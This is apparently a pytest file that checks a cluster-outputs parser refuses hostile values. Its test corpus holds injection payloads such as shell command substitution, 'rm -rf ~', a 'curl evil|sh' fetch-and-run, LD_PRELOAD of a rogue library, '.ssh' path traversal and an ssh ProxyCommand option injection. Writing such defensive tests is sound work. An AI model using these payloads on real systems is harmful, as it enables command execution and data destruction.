"""An outputs file is read like the cluster file: a value that would reach a shell, a sourced
env file or a path is refused in one line naming its key, and nothing is written."""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys

import pytest

from fatpipe.infra.errors import FatpipeError
from fatpipe.infra.outputs import parse_outputs

GOOD = {
    "name": "lab", "provider": "ssh", "region": "ssh", "tier_gbps": 1, "private_cidr": "10.42.0.0/24",
    "ssh_user": "root", "rdzv_port": 29400,
    "nccl": {"NCCL_SOCKET_NTHREADS": "4", "GLOO_SOCKET_IFNAME": "eth1", "NCCL_IB_DISABLE": "1"},
    "nodes": [{"name": f"lab-{i}", "private_ip": f"10.42.0.{10 + i}", "transport": "ssh",
               "ssh_host": f"10.42.0.{10 + i}"} for i in range(2)],
}


def hostile(path: tuple, value) -> dict:
    doc = copy.deepcopy(GOOD)
    target = doc
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return doc


def nccl(key: str, value: str = "1") -> dict:
    return hostile(("nccl",), {key: value})


CORPUS = {
    # The nccl map's keys become lines of a file bash sources with `set -a`.
    "nccl-command": (nccl("NCCL_X=1; touch /tmp/owned; Y"), "nccl", "NCCL_X=1; touch"),
    "nccl-substitution": (nccl("$(reboot)"), "nccl", "$(reboot)"),
    "nccl-newline": (nccl("NCCL_A\ncurl evil|sh"), "nccl", "NCCL_A"),
    "nccl-not-nccl": (nccl("LD_PRELOAD", "/tmp/evil.so"), "nccl", "LD_PRELOAD"),
    "nccl-path": (nccl("PATH", "/tmp"), "nccl", "'PATH'"),
    "nccl-lowercase": (nccl("nccl_debug", "INFO"), "nccl", "nccl_debug"),
    "nccl-prefix-only": (nccl("NCCL_"), "nccl", "NCCL_"),
    "nccl-lookalike": (nccl("NCCLX_DEBUG"), "nccl", "NCCLX_DEBUG"),
    "nccl-space": (nccl("NCCL_DEBUG "), "nccl", "NCCL_DEBUG"),
    "nccl-unicode": (nccl("NCCL_DEBUĞ"), "nccl", "NCCL_DEBU"),
    "nccl-value-newline": (nccl("NCCL_DEBUG", "INFO\nLD_PRELOAD=/tmp/x.so"), "nccl", "NCCL_DEBUG"),
    "nccl-value-nul": (nccl("NCCL_DEBUG", "INFO\x00"), "nccl", "NCCL_DEBUG"),
    # Node names are echoed, name folders here and on the node, and make pull paths.
    "name-command": (hostile(("nodes", 0, "name"), "lab-0; rm -rf ~"), "nodes.0.name", "lab-0; rm"),
    "name-substitution": (hostile(("nodes", 1, "name"), "$(id)"), "nodes.1.name", "$(id)"),
    "name-traversal": (hostile(("nodes", 0, "name"), "../../.ssh"), "nodes.0.name", "../../.ssh"),
    "name-slash": (hostile(("nodes", 0, "name"), "a/b"), "nodes.0.name", "a/b"),
    "name-dot": (hostile(("nodes", 0, "name"), ".."), "nodes.0.name", "'..'"),
    "name-newline": (hostile(("nodes", 0, "name"), "lab-0\necho owned"), "nodes.0.name", "lab-0"),
    "name-option": (hostile(("nodes", 0, "name"), "-rf"), "nodes.0.name", "-rf"),
    "name-empty": (hostile(("nodes", 0, "name"), ""), "nodes.0.name", "''"),
    "name-backtick": (hostile(("nodes", 0, "name"), "`id`"), "nodes.0.name", "`id`"),
    "name-long": (hostile(("nodes", 0, "name"), "n" * 64), "nodes.0.name", "at most 63"),
    "netns-command": (hostile(("nodes", 0, "netns"), "x; id"), "nodes.0.netns", "x; id"),
    "cluster-name": (hostile(("name",), "../lab"), "name", "../lab"),
    "cluster-name-shell": (hostile(("name",), "lab;id"), "name", "lab;id"),
    "remote-dir-newline": (hostile(("nodes", 0, "remote_dir"), "fatpipe/lab\nid"), "nodes.0.remote_dir", "fatpipe/lab"),
    "key-file-newline": (hostile(("nodes", 0, "ssh_key_file"), "/k\n-oProxyCommand=id"), "nodes.0.ssh_key_file", "/k"),
    # A node's address is where its servers bind and its peers dial: one machine's, never every
    # interface (a Lighthouse bound there is open on every network the node is on) nor a group.
    "private-ip-any": (hostile(("nodes", 0, "private_ip"), "0.0.0.0"), "nodes.0.private_ip", "every interface"),
    "private-ip-multicast": (hostile(("nodes", 1, "private_ip"), "224.0.0.251"), "nodes.1.private_ip", "multicast"),
    "private-ip-broadcast": (hostile(("nodes", 0, "private_ip"), "255.255.255.255"), "nodes.0.private_ip", "broadcast"),
    "private-ip-v6-any": (hostile(("nodes", 0, "private_ip"), "::"), "nodes.0.private_ip", "IPv6"),
    "public-ip-any": (hostile(("nodes", 0, "public_ip"), "0.0.0.0"), "nodes.0.public_ip", "every interface"),
    "private-ip-loopback-beside-others": (hostile(("nodes", 0, "private_ip"), "127.0.0.10"), "nodes",
                                          "no peer can reach it"),
}


def test_the_good_outputs_read():
    outputs = parse_outputs(GOOD)
    assert list(outputs.nccl) == ["NCCL_SOCKET_NTHREADS", "GLOO_SOCKET_IFNAME", "NCCL_IB_DISABLE"]
    assert [n.name for n in outputs.nodes] == ["lab-0", "lab-1"]
    parse_outputs(hostile(("nodes", 0, "name"), "Node_1.a-b"))  # the cluster file's rule for node names
    looped = hostile(("nodes",), [{"name": f"lo-{i}", "private_ip": f"127.0.0.{10 + i}", "transport": "local"}
                                  for i in range(2)])
    assert parse_outputs(looped).nodes[1].private_ip == "127.0.0.11"  # sim nodes on this machine, all of them


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_a_hostile_value_is_one_line_naming_its_key(case):
    doc, key, shown = CORPUS[case]
    with pytest.raises(FatpipeError) as e:
        parse_outputs(doc, label="outputs.json")
    text = str(e.value)
    assert text.startswith(f"outputs.json: {key}: "), text
    assert shown in text and "\n" not in text.replace("\\n", ""), text


@pytest.mark.parametrize("case", ["nccl-command", "nccl-not-nccl", "name-command", "name-traversal", "private-ip-any"])
def test_the_cli_refuses_with_exit_2_and_writes_nothing(case, tmp_path):
    doc, key, _ = CORPUS[case]
    (tmp_path / "fatpipe.toml").write_text('[clusters.lab]\nprovider = "sim"\nnodes = 2\n')
    (tmp_path / "hostile.json").write_text(json.dumps(doc))
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    env = {k: v for k, v in os.environ.items() if k not in ("FATPIPE_CONFIG", "FATPIPE_REMOTE_DIR")}
    done = subprocess.run([sys.executable, "-m", "fatpipe.cli", "rendezvous", "lab", "--outputs", "hostile.json"],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    errors = [line for line in (done.stdout + done.stderr).splitlines() if line.strip()]
    assert done.returncode == 2, done.stdout + done.stderr
    assert len(errors) == 1 and key in errors[0], errors
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    assert not os.path.exists("/tmp/owned")
